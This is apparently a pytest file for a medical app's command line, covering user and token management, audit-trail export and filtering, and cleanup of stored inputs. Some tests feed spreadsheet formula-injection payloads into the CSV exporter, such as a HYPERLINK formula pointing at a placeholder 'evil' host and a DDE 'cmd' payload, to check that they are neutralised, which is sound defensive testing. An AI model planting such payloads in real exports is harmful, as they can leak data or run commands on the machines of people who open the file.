"""Accounts from the command line, and the audit CSV that a spreadsheet opens safely."""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
from pathlib import Path

import pandas as pd
from cli_inprocess import run_medapp

from medapp.cases.store import CaseStore
from medapp.security.accounts import authenticate
from medapp.security.audit import audit_csv

REPO = Path(__file__).resolve().parents[2]


def _cli(var: Path, *args: str, stdin: str | None = None, env: dict | None = None) -> subprocess.CompletedProcess:
    return run_medapp("users", *args, stdin=stdin, env={"MEDAPP_VAR_DIR": str(var), **(env or {})})


def test_users_add_list_update_from_the_command_line(tmp_path):
    assert _cli(tmp_path, "add", "--admin", "Ada", "--password", "admin password 1").stdout == "created admin ada\n"
    assert _cli(tmp_path, "add", "--role", "reviewer", "rui", stdin="reviewer pw 12\n").returncode == 0
    assert _cli(tmp_path, "add", "bob", "--password-env", "PW", env={"PW": "clinician pw 1"}).returncode == 0
    short = _cli(tmp_path, "add", "eve", "--password", "short")
    assert short.returncode == 2 and "at least 10 characters" in short.stderr
    assert run_medapp("tokens", "create", "bob", env={"MEDAPP_VAR_DIR": str(tmp_path)}).returncode == 0
    disabled = _cli(tmp_path, "update", "bob", "--disable")
    assert disabled.returncode == 0 and disabled.stdout == "updated bob (1 API token revoked)\n"
    listing = _cli(tmp_path, "list").stdout.split("\n")
    assert [line.split() for line in listing if line] == [["ada", "admin", "active"], ["bob", "clinician", "disabled"],
                                                          ["rui", "reviewer", "active"]]
    os.environ["MEDAPP_VAR_DIR"], old = str(tmp_path), os.environ["MEDAPP_VAR_DIR"]
    try:
        store = CaseStore()
        assert authenticate(store, "rui", "reviewer pw 12") == {"username": "rui", "role": "reviewer"}
        assert authenticate(store, "bob", "clinician pw 1") is None
        events = [(e["username"].split(":")[0], e["action"], e["target"]) for e in reversed(store.audit_events())]
        assert events[:6] == [("cli", "user.create", "user:ada"), ("cli", "user.create", "user:rui"),
                              ("cli", "user.create", "user:bob"), ("cli", "token.create", "token:1"),
                              ("cli", "user.update", "user:bob"), ("cli", "token.revoke", "token:1")]
    finally:
        os.environ["MEDAPP_VAR_DIR"] = old


def test_audit_csv_defuses_spreadsheet_formulas():
    frame = pd.DataFrame([{"username": "=HYPERLINK(\"http://evil\",\"x\")", "action": "login.failed",
                           "target": "@SUM(A1)", "detail": "{}"},
                          {"username": "carla", "action": "login", "target": "user:carla", "detail": "-1"}])
    rows = list(csv.DictReader(io.StringIO(audit_csv(frame))))
    assert rows[0]["username"] == "'=HYPERLINK(\"http://evil\",\"x\")" and rows[0]["target"] == "'@SUM(A1)"
    assert rows[1]["username"] == "carla" and rows[1]["detail"] == "'-1"


def test_audit_csv_times_say_they_are_utc():
    from datetime import datetime

    frame = pd.DataFrame([{"at": datetime(2026, 12, 3, 18, 40, 12, 345678), "username": "carla"}])
    frame["at"] = frame["at"].astype("datetime64[us]")  # as pandas holds the store's naive UTC times
    assert list(csv.DictReader(io.StringIO(audit_csv(frame))))[0]["at"] == "2026-12-03T18:40:12+00:00"


def test_the_audit_trail_from_the_command_line(tmp_path):
    # an IT review: the trail was only on the Admin page or in the database
    import json

    env = {"MEDAPP_VAR_DIR": str(tmp_path)}
    for command in (["users", "list"], ["audit"], ["tokens", "list"], ["blobs", "collect"]):
        # a mistyped MEDAPP_VAR_DIR: these created an empty database there and answered from it (an IT review)
        missing = run_medapp(*command, env=env)
        assert missing.returncode == 2 and missing.stdout == "", command
        assert missing.stderr == (f"error: there is no case database at {tmp_path / 'medapp.db'} (check MEDAPP_VAR_DIR "
                                  "or MEDAPP_DATABASE_URL); `python -m medapp users add --admin NAME` or the app's "
                                  "first start creates it\n"), command
        assert not (tmp_path / "medapp.db").exists()
    from medapp.db.engine import open_engine

    open_engine(f"sqlite:///{tmp_path / 'medapp.db'}")  # as the app's first start leaves it: no account yet
    empty = run_medapp("users", "list", env=env)  # it printed nothing (an IT review)
    assert empty.returncode == 0 and empty.stdout == "" and empty.stderr.startswith(
        "no accounts yet: python -m medapp users add --admin NAME")
    _cli(tmp_path, "add", "--admin", "ada", "--password", "admin password 1")
    _cli(tmp_path, "add", "bob", "--password", "clinician pw 1")
    lines = run_medapp("audit", env=env)
    events = [json.loads(line) for line in lines.stdout.splitlines()]
    assert lines.returncode == 0 and lines.stderr == f"{len(events)} audit events\n"
    assert [e["action"] for e in events][:2] == ["user.create", "user.create"]  # newest first
    assert events[1]["target"] == "user:ada" and events[0]["target"] == "user:bob"
    assert events[0]["at"].endswith("+00:00")
    only = run_medapp("audit", "--action", "user.create", "--since", "2000-01-01", "--limit", "1", env=env)
    assert len(only.stdout.splitlines()) == 1
    table = list(csv.DictReader(io.StringIO(run_medapp("audit", "--format", "csv", env=env).stdout)))
    assert table[0]["action"] == "audit.export"  # the exports before it are on the trail themselves (a re-check)
    table = [r for r in table if r["action"] != "audit.export"]
    assert [r["target"] for r in table][:2] == ["user:bob", "user:ada"]
    assert table[0]["at"].endswith("+00:00")  # the Admin page's CSV: UTC said, formulas defused
    bad = run_medapp("audit", "--since", "yesterday", env=env)
    assert bad.returncode != 0 and "is not a date or time" in bad.stderr
    # a user's events include what was done to their account, and the name is read in any case ("--user CLEO"
    # found nothing, "--user bob" missed bob's account being created: an IT review)
    bobs = run_medapp("audit", "--user", "BOB", env=env)
    assert [json.loads(line)["target"] for line in bobs.stdout.splitlines()] == ["user:bob"]
    assert bobs.stderr == "1 audit event\n"
    # and what was done to their API tokens (a re-check)
    created = run_medapp("tokens", "create", "bob", env=env)
    token_id = created.stdout.split()[2]
    assert run_medapp("tokens", "revoke", token_id, env=env).returncode == 0
    bobs = run_medapp("audit", "--user", "bob", env=env)
    assert [json.loads(line)["action"] for line in bobs.stdout.splitlines()] == ["token.revoke", "token.create",
                                                                                 "user.create"]


def test_the_command_lines_audit_reads_as_the_admin_pages(tmp_path):
    # a review: --until 2026-12-04 stopped at that day's first second (0 events where the page listed 81), and the
    # CSV's details were JSON where the page's are words; an account change read "active: True, False"
    from datetime import UTC, datetime

    env = {"MEDAPP_VAR_DIR": str(tmp_path)}
    _cli(tmp_path, "add", "--admin", "ada", "--password", "admin password 1")
    _cli(tmp_path, "add", "bob", "--password", "clinician pw 1")
    _cli(tmp_path, "update", "bob", "--disable", "--role", "reviewer")
    today = datetime.now(UTC).date().isoformat()
    same_day = run_medapp("audit", "--since", today, "--until", today, env=env)
    assert len(same_day.stdout.splitlines()) == 3
    table = list(csv.DictReader(io.StringIO(run_medapp("audit", "--format", "csv", env=env).stdout)))
    table = [r for r in table if r["action"] != "audit.export"]  # the export above is on the trail too
    assert table[0]["detail"] == "role: clinician → reviewer · active: active → disabled"


def test_every_downloadable_csv_makes_formula_text_inert():
    """A cohort's patient id '=HYPERLINK(...)' was written as typed into the results CSV (a security review)."""
    import pandas as pd

    from medapp.security.audit import spreadsheet_csv

    table = pd.DataFrame({"id": ['=HYPERLINK("http://x"&C2,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "P-7"],
                          "probability": [0.1, -0.2, 0.3, 0.4]})
    lines = spreadsheet_csv(table).splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(") and lines[2].startswith("'+cmd") and lines[3].startswith("'@SUM")
    assert lines[4] == "P-7,0.4" and lines[2].endswith(",-0.2")  # ordinary text and negative numbers untouched


def test_stored_inputs_no_analysis_refers_to_are_collected_from_the_command_line(tmp_path):
    """A refused save leaves its stored input behind (a review); `blobs collect` removes those older than an hour."""
    import json
    import os
    import time

    from medapp.cases.blobs import BlobStore
    from medapp.db.engine import open_engine

    env = {"MEDAPP_VAR_DIR": str(tmp_path)}
    open_engine(f"sqlite:///{tmp_path / 'medapp.db'}")  # without its database every stored input would look unreferenced
    blobs = BlobStore(tmp_path / "blobs")
    old, fresh = blobs.put(b"left by a refused save"), blobs.put(b"a save in progress")
    two_hours_ago = time.time() - 7200
    os.utime(blobs.path(old), (two_hours_ago, two_hours_ago))
    run = run_medapp("blobs", "collect", env=env)
    assert run.returncode == 0 and run.stdout.split() == [old]
    assert run.stderr == "1 unreferenced stored inputs removed\n"
    assert not blobs.path(old).exists() and blobs.path(fresh).exists()
    assert not blobs.path(old).parent.exists()  # its emptied folder goes too (a re-check found it left)
    assert run_medapp("blobs", "collect", "--older-than-hours", "-5", env=env).returncode == 2
    [event] = [json.loads(line) for line in run_medapp("audit", "--action", "blobs.collect", env=env).stdout.splitlines()]
    assert event["detail"] == {"removed": 1, "older_than_hours": 1.0}


def test_the_command_line_exports_the_whole_trail_and_a_view_says_what_it_leaves_out(tmp_path):
    """An IT review: with 12,000 rows the export (`audit --since ...`) and the Admin page kept the newest 10,000 and
    said nothing; the account creations of the oldest rows were gone from the copy operations.md asks for."""
    from sqlalchemy import insert

    from medapp.cases.blobs import BlobStore
    from medapp.db.tables import AuditEvent

    env = {"MEDAPP_VAR_DIR": str(tmp_path)}
    _cli(tmp_path, "add", "--admin", "ada", "--password", "admin password 1")
    store = CaseStore(f"sqlite:///{tmp_path / 'medapp.db'}", BlobStore(tmp_path / "blobs"))
    with store.Session.begin() as s:  # a busy day of API calls after the account was made
        s.execute(insert(AuditEvent), [{"username": "api:ada", "action": "api.infer", "target": "model:diabetes",
                                        "detail": {"n": n}} for n in range(12_000)])
    everything = run_medapp("audit", "--since", "2000-01-01", env=env)
    lines = everything.stdout.splitlines()
    assert everything.returncode == 0 and len(lines) == 12_001 and everything.stderr == "12001 audit events\n"
    assert json.loads(lines[-1])["action"] == "user.create"  # the oldest row is there
    ids = [json.loads(line)["id"] for line in lines]
    assert ids == sorted(ids, reverse=True) and len(set(ids)) == len(ids)  # newest first, each once across pages
    some = run_medapp("audit", "--limit", "5", env=env)
    assert len(some.stdout.splitlines()) == 5  # 12,002 now: the export above is on the trail
    assert some.stderr == "5 audit events: the newest 5 of 12,002 that match (--limit); the rest were not printed\n"
    [export, _] = store.audit_events(action="audit.export")
    assert export["username"].startswith("cli:") and export["detail"]["rows"] == 5
    assert store.audit_count() == 12_003 and len(store.audit_events()) == 10_000
